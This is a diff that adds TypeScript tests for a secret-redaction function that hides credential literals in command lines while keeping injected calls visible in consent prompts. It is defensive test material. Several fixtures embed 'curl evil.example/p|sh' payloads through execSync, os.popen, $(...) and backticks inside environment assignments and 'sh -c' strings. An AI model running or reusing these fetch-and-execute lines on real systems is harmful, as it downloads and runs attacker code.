@@ -583,3 +583,109 @@ describe("a mixed value whose quote is left open is kept as written (r50 F4)", (
     },
   );
 });
+
+// r50 F2: a program's env expression was hidden whole to the statement's end, so a call in it
+// (the payload) was hidden from the consent question. Shown, only the chain's literals are hidden
+// in place; the export still hides the whole expression.
+describe("withoutCommandLineSecrets: a call in a program's env expression stays in sight (r50 F2)", () => {
+  const payload = "require('child_process').execSync('curl evil.example/p|sh')";
+  it.each([
+    [`process.env.TOKEN='sk-'+${payload}; run()`, `process.env.TOKEN='\${TOKEN}'+${payload}; run()`],
+    [
+      `process.env.TOKEN='sk-'+'live9SECRETx'.concat(${payload})`,
+      `process.env.TOKEN='\${TOKEN}'+'\${TOKEN}'.concat(${payload})`,
+    ],
+    [
+      "import os; os.environ['TOKEN']='sk-'+os.popen('curl evil.example/p|sh').read(); run()",
+      "import os; os.environ['TOKEN']='${TOKEN}'+os.popen('curl evil.example/p|sh').read(); run()",
+    ],
+    [
+      "process.env.TOKEN='sk-'+`live9SECRETx${execSync('curl evil.example/p|sh')}`; go()",
+      "process.env.TOKEN='${TOKEN}'+`${TOKEN}${execSync('curl evil.example/p|sh')}`; go()",
+    ],
+  ])("%j, as the program's text and pasted after node -e, is shown as %j", (text, shown) => {
+    expect(withoutCommandLineSecrets(text)).toBe(shown);
+    expect(withoutCommandLineSecrets(`node -e "${text}"`)).toBe(`node -e "${shown}"`);
+    for (const line of [text, `node -e "${text}"`]) {
+      expect(withoutCommandLineSecrets(line, () => "<hidden>")).not.toMatch(/sk-|live9SECRETx/);
+      // Each literal handed over fills back the line byte for byte.
+      expect(withoutCommandLineSecrets(line, (secret) => secret)).toBe(line);
+    }
+    // The export keeps its rule: the whole expression is one reference.
+    expect(withoutArgSecrets(["node", "-e", text])).toEqual(["node", "-e", "${SHELL_COMMAND}"]);
+    expect(exportSpec(pasted(text)).bundle?.mcpServers?.[0]?.command).not.toContain("evil.example");
+  });
+
+  it("hides an expression of literals, their methods and + whole, shown and exported", () => {
+    const text = "process.env.TOKEN='sk-'+'live9SECRETx'.concat('a', 'b').repeat(1); run()";
+    expect(withoutCommandLineSecrets(text)).toBe("process.env.TOKEN=${TOKEN}; run()");
+    expect(exportSpec(pasted(text)).bundle?.mcpServers?.[0]?.command).toBe(
+      "process.env.TOKEN=${TOKEN}; run()",
+    );
+  });
+});
+
+// r50 F6: a path under a run-time directory, a key kind's prefix before a run-time key and a short
+// label after a run-time value say nothing a credential would: shown and exported as written, as
+// before r49 F3. Literal text that says something beside run-time text stays hidden (r49 F3 above).
+describe("withoutCommandLineSecrets: a path, a key prefix or a label beside run-time text is shown (r50 F6)", () => {
+  it.each([
+    'srv --secret "$HOME/secret.txt"',
+    'srv --password "$PGPASS_DIR/app"',
+    'srv --api-key "sk-$PROJECT_KEY"',
+    "srv --token ghp_$GH_TAIL",
+    "srv --token ${T}_v2",
+    'srv --password "${DB_PASS}@prod"',
+    "TOKEN=${T}-dev run",
+  ])("%j is shown and exported as written, and not flagged", (line) => {
+    expect(withoutCommandLineSecrets(line)).toBe(line);
+    expect(findSpecSecrets(pasted(line))).toEqual([]);
+    expect(exportSpec(pasted(line)).bundle?.mcpServers?.[0]?.command).toBe(line);
+  });
+
+  it.each([
+    ["srv --token ${T}_hunter2SECRET", "srv --token ${T}${TOKEN}"],
+    ['srv --api-key "sk-live9$X"', 'srv --api-key "${API_KEY}$X"'],
+    ['srv --password "$X@prod9x"', 'srv --password "$X${PASSWORD}"'],
+    ["srv --token abc$def", "srv --token ${TOKEN}$def"],
+  ])("%j, saying more than a path, a prefix or a label, is shown as %j", (line, shown) => {
+    expect(withoutCommandLineSecrets(line)).toBe(shown);
+  });
+});
+
+// r50 F7: a quoted command's own NAME=value (`sh -c 'TOKEN=… srv'`) ended at the first blank, so
+// its hidden span cut a payload in two. It ends where the shell that runs the command ends the
+// word; shown, only its literal text is hidden, the payload kept whole.
+describe("withoutCommandLineSecrets: a quoted command's own value with a payload (r50 F7)", () => {
+  it.each([
+    [
+      "sh -c 'TOKEN=abc$(curl evil.example/p|sh) srv'",
+      "sh -c 'TOKEN=${TOKEN}$(curl evil.example/p|sh) srv'",
+      "abc",
+    ],
+    [
+      "ssh box sh -c 'TOKEN=abc`curl evil.example/p|sh`x9 srv'",
+      "ssh box sh -c 'TOKEN=${TOKEN}`curl evil.example/p|sh`${TOKEN} srv'",
+      "abc",
+    ],
+    [
+      `bash -c "DB_PASSWORD='two words' printenv DB_PASSWORD"`,
+      `bash -c "DB_PASSWORD=\${DB_PASSWORD} printenv DB_PASSWORD"`,
+      "'two words'",
+    ],
+  ])("%j is shown as %j, %j handed over first", (line, shown, first) => {
+    expect(withoutCommandLineSecrets(line)).toBe(shown);
+    const hidden: string[] = [];
+    const filled = withoutCommandLineSecrets(line, (secret) => {
+      hidden.push(secret);
+      return secret;
+    });
+    expect(filled).toBe(line);
+    expect(hidden[0]).toBe(first);
+  });
+
+  it("keeps a quoted command's value that is only run-time text, and hides a literal default", () => {
+    expect(withoutCommandLineSecrets("sh -c 'TOKEN=$T srv'")).toBe("sh -c 'TOKEN=$T srv'");
+    expect(withoutCommandLineSecrets("sh -c 'TOKEN=${T:-hunter2x9} srv'")).toBe("sh -c 'TOKEN=${TOKEN} srv'");
+  });
+});
